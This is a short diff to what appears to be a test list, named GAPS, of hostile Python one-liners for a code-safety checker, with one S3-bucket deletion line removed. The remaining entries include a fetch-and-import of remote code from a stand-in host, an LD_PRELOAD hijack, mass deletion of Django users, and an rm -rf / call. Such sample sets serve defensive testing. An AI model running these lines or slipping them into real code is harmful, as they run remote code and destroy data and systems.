@@ -263,7 +263,6 @@ GAPS = [
     "import sys, requests; open('/tmp/m.py','w').write(requests.get('http://e.example').text); sys.path.insert(0,'/tmp'); import m",  # noqa: E501
     "import os; os.environ.update({'LD_PRELOAD': '/tmp/x.so'})",
     "from django.contrib.auth.models import User; User.objects.all().delete()",
-    "import boto3; boto3.resource('s3').Bucket('b').objects.all().delete()",
     "import os\n@os.system\ndef rm(): pass",
     "from plumbum import local; local['rm']['-rf','/']()",
 ]
